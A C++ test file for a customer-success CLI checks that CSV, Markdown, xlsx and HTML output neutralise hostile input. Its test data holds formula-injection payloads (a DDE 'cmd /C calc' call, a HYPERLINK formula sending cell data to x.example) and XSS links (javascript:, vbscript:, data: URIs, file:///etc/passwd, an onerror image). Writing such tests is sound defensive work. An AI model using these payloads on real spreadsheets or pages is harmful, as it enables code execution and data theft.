// SPDX-License-Identifier: MIT
// What others act on: cells that a spreadsheet takes for formulas, characters that a workbook cannot hold,
// links and scripts that a browser would follow or run.
#include "process/hostile/tables.hpp"

namespace csm::test {

namespace {

/// A text that acts in a spreadsheet, as JSON holds it, and as it stands in CSV.
struct Formula {
    std::string name;
    std::string in_json;
    std::string in_csv;
};

const std::vector<Formula> formulas{
    {"an equals sign", "=1+1", ",'=1+1,"},
    {"a plus sign", "+1+1", ",'+1+1,"},
    {"a minus sign", "-1+1", ",'-1+1,"},
    {"an at sign", "@SUM(1)", ",'@SUM(1),"},
    {"a full-width equals sign", R"(\uff1d1+1)", ",'\uff1d1+1,"},
    {"a full-width plus sign", R"(\uff0b1+1)", ",'\uff0b1+1,"},
    {"a full-width minus sign", R"(\uff0d1+1)", ",'\uff0d1+1,"},
    {"a full-width at sign", R"(\uff20SUM(1))", ",'\uff20SUM(1),"},
    {"a blank before", " =1+1", ",\"' =1+1\","},
    {"a tab before", R"(\t=1+1)", ",\"'\t=1+1\","},
    {"a line end before", R"(\n=1+1)", ",\"'\n=1+1\","},
    {"a control character before", R"(\u0001=1+1)", "=1+1"},
    {"a space without a width before", R"(\u200b=1+1)", ",'\u200b=1+1,"},
    {"a byte order mark before", R"(\ufeff=1+1)", ",'\ufeff=1+1,"},
    {"a no-break space before", R"(\u00a0=1+1)", ",'\u00a0=1+1,"},
    {"a call of another program", "=cmd|' /C calc'!A0", ",'=cmd|' /C calc'!A0,"},
    {"a link that takes data along", R"(=HYPERLINK(\"http://x.example/?\"&A1))",
     ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\","},
};

SetUp portfolio(const std::string& text) {
    return file("p.json", "[{\"customer_id\": \"A\", \"name\": \"" + text + "\", \"owner\": \"" + text +
                              "\", \"arr\": 5, \"product_usage\": {\"" + text +
                              "\": {\"adopted\": false, \"usage_pct\": 5}}}]");
}

std::vector<Situation> in_csv() {
    std::vector<std::vector<Situation>> lists;
    for (const auto& formula : formulas)
        lists.push_back(
            for_each_command({"health", "churn", "expand", "report"},
                             {.name = "a name with " + formula.name + " as CSV",
                              .files = {portfolio(formula.in_json)},
                              .line = "csm {} p.json -q -f csv",
                              .status = {0},
                              .never_says = {",=", ",@", ",\uff1d", ",\uff20", ",\ufeff", ",\u200b"},
                              .prints = {formula.in_csv}}));
    return all_of(std::move(lists));
}

/// Pages that are sent by mail, or pasted into a sheet.
std::vector<Situation> in_pages() {
    std::vector<Situation> list;
    for (const auto& formula : formulas)
        list.push_back({.name = "a name with " + formula.name + " in a table of Markdown",
                        .files = {portfolio(formula.in_json)},
                        .line = "csm health p.json -q -f markdown",
                        .status = {0},
                        .never_says = {"| =", "| @", "| \uff1d", "| \uff20", "| +1+1", "| -1+1"}});
    return list;
}

/// Whether the sheets of a workbook are XML and hold no formula but csm's own, in which no text of the input
/// is.
const std::string workbook_is_sound =
    "mkdir sheets && cd sheets && unzip -q ../out.xlsx && ! grep -rhos '<f>[^<]*</f>' . | grep -vqE "
    "'^<f>(IF|SUM|SUMIFS|COUNTA|COUNTIFS|SUBTOTAL|[(]COUNTIFS)[(][A-Z0-9a-z$!:,()&;=/+ \"]*</f>$' && "
    "for f in xl/*.xml "
    "xl/worksheets/*.xml; do python3 -c 'import sys, xml.etree.ElementTree as t; t.parse(sys.argv[1])' "
    "\"$f\" "
    "|| exit 1; done";

std::vector<Situation> in_workbooks() {
    std::vector<std::pair<std::string, std::string>> texts{
        {"U+FFFE", R"(a\ufffeb)"},
        {"U+FFFF", R"(a\uffffb)"},
        {"every control character",
         R"(a\u0001\u0002\u0003\u0004\u0005\u0006\u0007\b\t\n\u000b\f\r\u000e\u000f\u0010\u0011\u0012\u0013\u0014)"
         R"(\u0015\u0016\u0017\u0018\u0019\u001a\u001b\u001c\u001d\u001e\u001fb)"},
        {"a null character", R"(a\u0000b)"},
        {"marks of XML", R"(<a>&amp;]]>\"'</a>)"},
        {"an escape of workbooks", "_x0041_ _x000A_"},
        {"a name longer than a cell", std::string(40'000, 'n')},
        {"a name as long as a cell of wide characters",
         [] {
             std::string text;
             for (int i = 0; i < 32'767; ++i) text += "\xF0\x9F\x99\x82";
             return text;
         }()},
    };
    for (const auto& formula : formulas) texts.emplace_back(formula.name, formula.in_json);
    std::vector<Situation> list;
    for (const auto& [name, text] : texts)
        list.push_back({.name = "a workbook of a name with " + name,
                        .files = {portfolio(text)},
                        .line = "csm report p.json -q -f xlsx -o out.xlsx",
                        .status = {0},
                        .makes = {"out.xlsx"},
                        .then = workbook_is_sound,
                        .needs =
                            "unzip -v && python3 --version && csm report $SAMPLES/portfolio.json -q -f xlsx "
                            "-o w"});
    return list;
}

/// Links of a template of the user, and of texts within it.
std::vector<Situation> in_documents() {
    const std::vector<std::pair<std::string, std::string>> links{
        {"a script", "[x](javascript:alert(1))"},
        {"a script in capitals", "[x](JaVaScRiPt:alert(1))"},
        {"a script behind an entity", "[x](&#106;avascript:alert(1))"},
        {"a script behind a tab", "[x](java&#9;script:alert(1))"},
        {"a script in brackets", "<javascript:alert(1)>"},
        {"a script by reference", "[x][1]\n\n[1]: javascript:alert(1)"},
        {"data", "[x](data:text/html;base64,PHNjcmlwdD4=)"},
        {"data as a picture", "![x](data:image/svg+xml;base64,PHN2Zz4=)"},
        {"a Visual Basic script", "[x](vbscript:msgbox(1))"},
        {"a file", "[x](file:///etc/passwd)"},
        {"HTML", "<a href=\"javascript:alert(1)\">x</a><script>alert(1)</script>"},
        {"an event", "<img src=x onerror=alert(1)>"},
    };
    std::vector<Situation> list;
    const std::vector<std::string> acting{"href=\"javascript", "href=\"JaVa",  "href=\"data:",  "src=\"data:",
                                          "href=\"vbscript",   "href=\"file:", "<script>alert", "<img src=x"};
    for (const auto& [name, link] : links) {
        list.push_back(
            {.name = name + " as a link of a template",
             .files = {customers("p.ndjson", 2), file("t.md", "# {{customer_id}}\n\n" + link + "\n")},
             .line = "csm report p.ndjson --customer C1 --template ./t.md -f html",
             .status = {0},
             .never_says = acting,
             .prints = {"<h1>"}});
        std::string escaped;
        for (const char letter : link)
            escaped += letter == '"' ? "\\\"" : letter == '\n' ? "\\n" : std::string(1, letter);
        list.push_back({.name = name + " as a link in a text",
                        .files = {portfolio(escaped)},
                        .line = "csm report p.json --customer A --template qbr -q -f html",
                        .status = {0},
                        .never_says = acting,
                        .prints = {"<h1>"}});
        list.push_back({.name = name + " as a link in a page",
                        .files = {portfolio(escaped)},
                        .line = "csm report p.json -q -f html",
                        .status = {0},
                        .never_says = acting,
                        .prints = {"<html"}});
    }
    return list;
}

}  // namespace

std::vector<Situation> cell_situations() {
    return all_of({in_csv(), in_pages(), in_workbooks(), in_documents()});
}

}  // namespace csm::test
